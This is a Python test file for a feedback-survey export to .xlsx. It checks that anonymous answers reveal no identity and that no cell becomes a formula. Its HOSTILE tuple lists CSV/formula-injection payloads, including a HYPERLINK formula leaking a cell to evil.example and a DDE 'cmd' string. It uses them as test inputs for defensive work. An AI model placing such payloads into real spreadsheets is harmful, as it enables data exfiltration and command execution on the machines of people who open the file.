"""The .xlsx of all answers: opened with openpyxl, anonymous rows say nothing of who wrote
them, and nothing anyone typed is a formula."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import datetime

from openpyxl import load_workbook

from core.i18n import default_catalog
from core.jpcalendar import TOKYO
from dialogs.feedback.export import answers_workbook
from tests.feedback.fixture import ANSWERS

JA = default_catalog().translator("ja")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
)


def rows(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_every_answer_is_a_row_and_anonymous_ones_say_nothing_of_who() -> None:
    content = answers_workbook(ANSWERS, JA, TOKYO)

    header, *answers = rows(content)
    assert header == [
        "回答日時", "名前", "所属", "部署", "参加方法", "満足度", "良かった点",
        "改善点・困ったこと", "気づいた課題", "課題の詳細", "次回やってみたいこと・話したいテーマ",
        "また参加したい", "他の部署にも勧めたい", "匿名",
    ]  # fmt: skip
    assert len(answers) == 10
    assert answers[0][:6] == [
        datetime(2026, 12, 15, 17, 10), "今治 花子", "今治市", "情報政策課", "現地", 5,
    ]  # fmt: skip
    assert answers[0][8] == "機材・画面"
    named, anonymous = answers[:7], answers[7:]
    assert all(row[13] is None for row in named)
    for row in anonymous:
        assert row[:4] == [None, None, None, None]  # no time, name, municipality, department
        assert row[13] == "匿名"
    text = str(answers)
    for who in ("松山 一郎", "伊方 美咲", "西条 誠", "伊方町", "西条市"):
        assert who not in text
    assert anonymous[1][6] == ANSWERS[3].answer.good  # what they wrote is all there


def test_no_cell_is_a_formula_whatever_was_typed() -> None:
    hostile = [
        replace(
            feedback,
            name=HOSTILE[n % len(HOSTILE)],
            department=HOSTILE[(n + 1) % len(HOSTILE)],
            answer=replace(
                feedback.answer,
                good=HOSTILE[(n + 2) % len(HOSTILE)],
                next_themes="ベル\x07の音" + HOSTILE[(n + 3) % len(HOSTILE)],
            ),
        )
        for n, feedback in enumerate(ANSWERS)
    ]

    content = answers_workbook(hostile, JA, TOKYO)

    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert all(cell.quotePrefix for cell in cells if isinstance(cell.value, str))
    values = {cell.value for cell in cells}
    assert set(HOSTILE) <= values  # kept exactly as typed, as text
    assert "ベルの音" + HOSTILE[3] in values  # a control character a sheet cannot hold is dropped
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        xml = b"".join(package.read(name) for name in package.namelist())
    assert b"<f>" not in xml and b"<f " not in xml
